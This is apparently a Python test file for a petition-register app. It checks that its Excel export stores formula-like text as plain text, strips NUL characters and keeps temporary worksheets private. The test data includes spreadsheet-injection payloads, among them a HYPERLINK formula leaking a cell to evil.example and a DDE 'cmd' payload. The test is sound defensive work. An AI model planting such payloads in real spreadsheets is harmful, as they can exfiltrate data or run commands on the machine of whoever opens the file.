"""Spreadsheet exports: text is never a formula, a stored NUL does not break them, and no
plaintext worksheet lands in the system's TMPDIR (issue 14, items 3b, 3c and 7)."""

import os
import tempfile
from dataclasses import replace
from datetime import date

from openpyxl import load_workbook

from danvan_desktop import private_temp
from danvan_desktop.domain.petitions import Petitioner
from danvan_desktop.services import petitions
from danvan_desktop.services.petition_export import export_xlsx
from danvan_desktop.tasks import Task

from .test_petition_register import COMPLAINT, TODAY

INJECTIONS = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+84912345678", "-2+3", "@SUM(A1:A9)",
              "\t=1+1", "\r=1+1")


def test_text_beginning_like_a_formula_is_written_as_text(admin_session, tmp_path):
    for index, text in enumerate(INJECTIONS):
        petitions.add_petition(admin_session, replace(
            COMPLAINT, content=text, received_on=date(2026, 11, 2 + index),
            petitioners=(Petitioner("=cmd|' /C calc'!A0", "@Thôn Nà Lầu"),)), today=TODAY)
    target = tmp_path / "so.xlsx"
    export_xlsx(admin_session, petitions.list_query(today=TODAY), target)
    sheet = load_workbook(target).active
    contents = {}
    for row in sheet.iter_rows(min_row=2):
        name, address, content = row[5], row[6], row[7]
        for cell in (name, address, content):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert name.value == "=cmd|' /C calc'!A0" and name.quotePrefix
        contents[content.value] = content.quotePrefix
    assert contents == {text.strip(): True for text in INJECTIONS}  # the form trims a leading tab or CR


def test_a_stored_nul_does_not_break_the_export(admin_session, tmp_path):
    pid = petitions.add_petition(admin_session, COMPLAINT, today=TODAY)
    admin_session.db["petitions"].update(pid, {"content": "Nội dung\x00 có ký tự\x07 lạ"})
    target = tmp_path / "so.xlsx"
    assert export_xlsx(admin_session, petitions.list_query(today=TODAY), target) == 1
    assert load_workbook(target).active["H2"].value == "Nội dung có ký tự lạ"


def test_no_worksheet_spills_into_the_system_tmpdir(admin_session, tmp_path, monkeypatch):
    system_tmp = tmp_path / "system-tmp"
    system_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_tmp))
    for day in range(1, 4):
        petitions.add_petition(admin_session, replace(COMPLAINT, received_on=date(2026, 11, day)), today=TODAY)
    seen = []

    def look(done, total, text):
        seen.append((sorted(os.listdir(system_tmp)), sorted(p.name for p in private_temp.root().rglob("*")
                                                               if p.is_file())))

    export_xlsx(admin_session, petitions.list_query(today=TODAY), tmp_path / "so.xlsx", Task(look), page_size=1)
    assert seen and all(system == [] for system, _ in seen)
    assert all(private for _, private in seen)  # the worksheet being written sits in the private folder
    assert list(private_temp.root().rglob("*.*")) == []  # removed once zipped
    folder = private_temp.root() / os.listdir(private_temp.root())[0]
    assert (folder.stat().st_mode & 0o777) == 0o700 or os.name == "nt"
    private_temp.remove_own()
    assert not folder.exists()


def test_folders_left_by_a_crash_are_removed_at_the_next_start(tmp_path, monkeypatch):
    from danvan_desktop.cli.main import main

    stale = private_temp.root() / "999999999-abcd"
    stale.mkdir(parents=True)
    (stale / "openpyxl.xml").write_text("<row>Nguyễn Văn An</row>")
    live = private_temp.folder()
    main(["--db", str(tmp_path / "none.db"), "doctor"])
    assert not stale.exists() and live.exists()
